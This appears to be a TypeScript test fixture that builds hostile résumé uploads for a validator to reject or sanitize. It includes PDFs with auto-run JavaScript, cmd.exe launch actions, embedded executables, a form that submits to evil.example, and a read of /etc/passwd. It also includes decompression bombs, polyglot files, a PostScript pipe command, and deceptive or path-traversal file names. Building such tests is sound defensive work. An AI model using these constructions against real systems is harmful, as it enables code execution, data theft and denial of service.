import { deflateSync } from 'node:zlib';
import { jpegOf, MARK, pdfOf, picture, protectedPdf, text } from './hostile-files.ts';

/** A malicious résumé. */
export type HostileResume = { name: string; bytes: Buffer };

const MIB = 1024 * 1024;
const SCRIPT = `<script>alert("${MARK}")</script>`;
const js = `<< /S /JavaScript /JS (app.alert\\("${MARK}"\\)) >>`;
const launch = `<< /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (${MARK}) >> >>`;

function stream(content: Buffer | string, entries = ''): string {
  const bytes = typeof content === 'string' ? content : content.toString('latin1');
  return `<< ${entries} /Length ${bytes.length} >>\nstream\n${bytes}\nendstream`;
}

const flate = (content: string | Buffer, entries = '') =>
  stream(deflateSync(Buffer.from(content as string, 'latin1')), `${entries} /Filter /FlateDecode`);

/** An archive that ends where the file ends. */
function zip(): Buffer {
  const name = Buffer.from('evil.sh');
  const head = Buffer.alloc(30);
  head.write('PK\x03\x04', 'latin1');
  head.writeUInt16LE(name.length, 26);
  const directory = Buffer.alloc(46);
  directory.write('PK\x01\x02', 'latin1');
  directory.writeUInt16LE(name.length, 28);
  const end = Buffer.alloc(22);
  end.write('PK\x05\x06', 'latin1');
  end.writeUInt16LE(1, 8);
  end.writeUInt16LE(1, 10);
  return Buffer.concat([head, name, directory, name, end]);
}

function pdfs(): HostileResume[] {
  const file = `<< /Names [(a) << /Type /Filespec /F (${MARK}.exe) /EF << /F 5 0 R >> >>] >>`;
  const packed = flate(Buffer.alloc(20 * MIB));
  const annotation = (action: string) =>
    `/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 500 800] /A ${action} >>]`;
  const huge =
    '<< /Type /XObject /Subtype /Image /Width 24000 /Height 24000 /BitsPerComponent 1 /ColorSpace /DeviceGray';
  const pictureBomb = flate(Buffer.alloc(69 * MIB), huge.slice(2));
  return [
    { name: 'script at the opening.pdf', bytes: pdfOf(`/OpenAction ${js}`) },
    { name: 'named scripts.pdf', bytes: pdfOf(`/Names << /JavaScript << /Names [(a) ${js}] >> >>`) },
    { name: 'script of a page.pdf', bytes: pdfOf('', `/AA << /O ${js} >>`) },
    { name: 'script by another spelling.pdf', bytes: pdfOf('/OpenAction << /S /J#61vaScript /#4aS (a) >>') },
    {
      name: 'script in a packed list of objects.pdf',
      bytes: pdfOf('/OpenAction 6 0 R', '', [flate(`6 0 ${js}`, '/Type /ObjStm /N 1 /First 4')]),
    },
    { name: 'starts a program.pdf', bytes: pdfOf(`/OpenAction ${launch}`) },
    { name: 'link that starts a program.pdf', bytes: pdfOf('', annotation(launch)) },
    {
      name: 'file inside.pdf',
      bytes: pdfOf(`/Names << /EmbeddedFiles ${file} >>`, '', [stream(`MZ${MARK}`)]),
    },
    {
      name: 'file in an attachment.pdf',
      bytes: pdfOf('', '/Annots [<< /Subtype /FileAttachment /FS << /EF << /F 5 0 R >> >> >>]', [
        stream(`MZ${MARK}`, '/Type /EmbeddedFile'),
      ]),
    },
    { name: 'XFA form.pdf', bytes: pdfOf('/AcroForm << /Fields [] /XFA 5 0 R >>', '', [stream('<xdp/>')]) },
    {
      name: 'form that sends.pdf',
      bytes: pdfOf('/OpenAction << /S /SubmitForm /F (https://evil.example) >>'),
    },
    { name: 'form that reads.pdf', bytes: pdfOf('/OpenAction << /S /ImportData /F (/etc/passwd) >>') },
    {
      name: 'goes to a file of a server.pdf',
      bytes: pdfOf('/OpenAction << /S /GoToR /F (\\\\\\\\evil.example\\\\share) /D [0 /Fit] >>'),
    },
    { name: 'goes into a file.pdf', bytes: pdfOf('', annotation('<< /S /GoToE /T << /R /C /N (a) >> >>')) },
    {
      name: 'plays a film.pdf',
      bytes: pdfOf('', '/Annots [<< /Subtype /RichMedia /RichMediaContent 5 0 R >>]'),
    },
    { name: 'encrypted.pdf', bytes: protectedPdf() },
    {
      name: 'page that unpacks to much.pdf',
      bytes: pdfOf('', '/Contents 5 0 R', [flate(Buffer.alloc(66 * MIB, 32))]),
    },
    { name: 'picture that unpacks to much.pdf', bytes: pdfOf('', '', [pictureBomb]) },
    {
      name: 'many streams that unpack to much.pdf',
      bytes: pdfOf(
        '',
        '',
        Array.from({ length: 12 }, () => packed),
      ),
    },
    {
      name: 'a hundred thousand streams.pdf',
      bytes: Buffer.concat([pdfOf(), text('<</Filter/Fl>>stream\n\nendstream\n'.repeat(80_000))]),
    },
    { name: 'a thousand pages.pdf', bytes: pdfOf('', '', [], 1000) },
    { name: 'archive behind.pdf', bytes: Buffer.concat([pdfOf(), zip()]) },
    { name: 'archive before.pdf', bytes: Buffer.concat([zip(), pdfOf()]) },
    { name: 'page of the web behind.pdf', bytes: Buffer.concat([pdfOf(), text(`<html>${SCRIPT}</html>`)]) },
    {
      name: 'page of the web in its head.pdf',
      bytes: text(pdfOf().toString('latin1').replace('\n', `\n%<html>${SCRIPT}\n`)),
    },
    { name: 'cut off.pdf', bytes: pdfOf().subarray(0, 60) },
  ];
}

async function pictures(): Promise<HostileResume[]> {
  const jpeg = await picture().jpeg().toBuffer();
  const behind = (content: string | Buffer) =>
    Buffer.concat([jpeg, Buffer.from(content as string, 'latin1')]);
  const comment = (words: string) =>
    Buffer.concat([
      jpeg.subarray(0, 2),
      Buffer.from([0xff, 0xfe, 0, words.length + 2]),
      text(words),
      jpeg.subarray(2),
    ]);
  // Its header is a comment of JavaScript: the length of the first entry reads as /*.
  const asScript = Buffer.concat([
    jpeg.subarray(0, 4),
    text('/*'),
    text(`*/=alert("${MARK}");/*`.padEnd(0x2f2a - 2, ' ')),
    jpeg.subarray(20),
  ]);
  return [
    { name: 'page of the web behind.jpg', bytes: behind(`<html>${SCRIPT}</html>`) },
    { name: 'page of the web in a comment.jpg', bytes: comment(SCRIPT) },
    { name: 'script as a head.jpg', bytes: asScript },
    { name: 'program of a server behind.jpg', bytes: behind(`<?php echo "${MARK}"; ?>`) },
    { name: 'archive behind.jpg', bytes: behind(zip()) },
    { name: 'document behind.jpg', bytes: behind(pdfOf()) },
    { name: 'says that it is huge.jpg', bytes: jpegOf(jpeg, 65_000, 65_000) },
    { name: 'ends in the middle.jpg', bytes: jpeg.subarray(0, Math.floor(jpeg.length / 2)) },
    { name: 'picture by the name of a document.pdf', bytes: jpeg },
    { name: 'picture by the name of a program.exe', bytes: jpeg },
    { name: 'resume.pdf.exe', bytes: pdfOf() },
    { name: 'resume\u202efdp.exe', bytes: pdfOf() },
    { name: 'document by the name of a picture.jpg', bytes: pdfOf() },
  ];
}

async function others(): Promise<HostileResume[]> {
  return [
    { name: 'nothing.pdf', bytes: Buffer.alloc(0) },
    { name: 'blanks.pdf', bytes: Buffer.alloc(1000, 32) },
    { name: 'too large.pdf', bytes: Buffer.concat([pdfOf(), Buffer.alloc(3 * MIB)]) },
    { name: 'program.pdf', bytes: text(`MZ\x90\0${MARK}`) },
    { name: 'drawing.jpg', bytes: text(`<svg xmlns="http://www.w3.org/2000/svg">${SCRIPT}</svg>`) },
    { name: 'document of Word.pdf', bytes: zip() },
    { name: 'PostScript.pdf', bytes: text('%!PS-Adobe-3.0\n(%pipe%id) (r) file\n') },
    { name: 'PNG.jpg', bytes: await picture().png().toBuffer() },
  ];
}

/** More than forty résumés that must be refused, made here. */
export async function hostileResumes(): Promise<HostileResume[]> {
  return [...pdfs(), ...(await pictures()), ...(await others())];
}

/** Harmless résumés with something that is removed: a clean copy of these is accepted. */
export async function untidyResumes(): Promise<(HostileResume & { shownAs: string })[]> {
  const jpeg = await picture()
    .withExif({ IFD0: { Make: MARK }, IFD3: { GPSLatitude: '13/1 45/1 0/1', GPSLatitudeRef: 'N' } })
    .jpeg()
    .toBuffer();
  const link = `/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (https://me.example/${MARK}) >> >>]`;
  const as = (name: string, bytes: Buffer, shownAs = name) => ({ name, bytes, shownAs });
  return [
    as('the place where it was taken.jpg', jpeg),
    as('a link to a page.pdf', pdfOf('', link)),
    as('a first view.pdf', pdfOf('/OpenAction [3 0 R /Fit]')),
    as('as large as a country.pdf', pdfOf('', '/MediaBox [0 0 1000000000 1000000000]')),
    as('../../../etc/ประวัติย่อ.pdf', pdfOf(), 'ประวัติย่อ.pdf'),
    as('..\\..\\windows\\resume.jpg', jpeg, 'resume.jpg'),
    as('re\u0000su\u0007me.exe.pdf', pdfOf(), 'resume.exe.pdf'),
    as(`${'long'.repeat(60)}.pdf`, pdfOf(), `${'long'.repeat(29)}.pdf`),
  ];
}
